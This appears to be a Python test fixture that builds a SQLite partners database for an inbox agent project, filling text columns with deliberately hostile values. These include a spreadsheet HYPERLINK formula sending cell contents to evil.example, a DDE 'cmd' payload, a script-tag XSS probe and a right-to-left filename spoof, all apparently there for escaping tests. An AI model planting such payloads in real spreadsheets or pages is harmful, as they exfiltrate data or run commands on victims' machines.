"""A partners.db made from the catalogue: with rows given by hand, or with many odd ones."""

from __future__ import annotations

import sqlite3
from collections.abc import Iterable, Iterator, Mapping
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from inbox_agent.catalogue import TABLES, Column, Table, create_statements

Row = Mapping[str, Any]

TEXTS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "-5.2",
    "<script>alert(1)</script>",
    "https://evil.example/login",
    "\u202egnp.exe\u202c invoice",
    'He said "no",\nthen\r\nleft',
    "Grüße, 見積もり",
    "＝1+1",  # noqa: RUF001 - a full-width sign begins a formula too
    "  =1+1",
    None,
    "",
)
_STATES = ("ok", "watch", "act", "unknown")
_FIRST = datetime(2026, 1, 1, tzinfo=UTC)


def make_database(path: Path, rows: Mapping[str, Iterable[Row]]) -> Path:
    """The whole schema, with the columns that are given; all others are NULL."""
    db = sqlite3.connect(path)
    with db:
        db.execute("pragma journal_mode=wal")
        for statement in create_statements():
            db.execute(statement)
        for table, found in rows.items():
            for row in found:
                names = ", ".join(f'"{name}"' for name in row)
                marks = ", ".join("?" * len(row))
                values = tuple(row.values())
                db.execute(f'insert into "{table}" ({names}) values ({marks})', values)  # noqa: S608
    db.close()
    return path


def many_rows(count: int) -> dict[str, list[Row]]:
    """`count` rows for each table, ties in every column but the keys, hostile words in text."""
    return {table.name: list(_rows(table, count)) for table in TABLES}


def _rows(table: Table, count: int) -> Iterator[Row]:
    # Written in another order than that of the key, as an agent writes partner after partner.
    for number in sorted(range(count), key=lambda n: n * 7919 % 10_007):
        row = {column.name: _value(table, column, number) for column in table.columns}
        row.update(_overrides(table.name, number))
        if table.name != "about" or number == 0:
            yield row


def _overrides(table: str, number: int) -> Row:
    """What the views look for, so that each of them has a row for every number."""
    found: dict[str, Row] = {
        "partners": {"as_of": "2026-11-21T14:05:00Z"},
        "response_times": {
            "responder": ("us", "them")[number % 2],
            "asked_at": f"2026-11-{number % 17 + 3:02d}T08:00:00Z",
            "last_nudge_at": None,
            "answered_at": None,
            "outcome": "open",
            "needs_reply": "yes",
            "answered_elsewhere_at": None,
        },
        "silence_gaps": {"is_open": 1},
        "about": {"generation": 42, "give_up_after_seconds": 30 * 86_400},
        "gap_lengths": {"gap_working_days": number},
        "working_days": _day(number),
    }
    return found.get(table, {})


def _day(number: int) -> Row:
    day = _FIRST + timedelta(days=number)
    return {
        "day": f"{day:%Y-%m-%d}",
        "begins_at": _text(day),
        "ends_at": _text(day + timedelta(days=1)),
        "working_days": number,
    }


def _text(at: datetime) -> str:
    return f"{at:%Y-%m-%dT%H:%M:%SZ}"


def _value(table: Table, column: Column, number: int) -> Any:
    if column.name in table.primary_key:
        return _key(table, column.name, number)
    if column.references:
        return f"key-{number:06d}"
    # NULLs and few different values, so that every sort has to break ties.
    if number % 5 == 0 and column.name not in ("as_of", "began_at"):
        return None
    return _some(column, number)


def _some(column: Column, number: int) -> Any:
    if column.type == "INTEGER":
        return number % 2 if column.unit == "flag" else number % 4 * 40_000
    if column.unit == "UTC instant":
        return _text(_FIRST + timedelta(hours=number % 4, days=number % 3))
    if column.unit == "state":
        return _STATES[number % 4]
    return number % 4 / 3 if column.type in ("REAL", "NUMERIC") else TEXTS[number % len(TEXTS)]


def _key(table: Table, name: str, number: int) -> str | int:
    """Keys of one column are plain; the last of several holds what has to be escaped."""
    if name == table.primary_key[-1] and len(table.primary_key) > 1:
        return f"=a/{number:06d},é~%@x.example"
    leading = number // 100 if len(table.primary_key) > 1 else number
    return f"key-{leading:06d}"
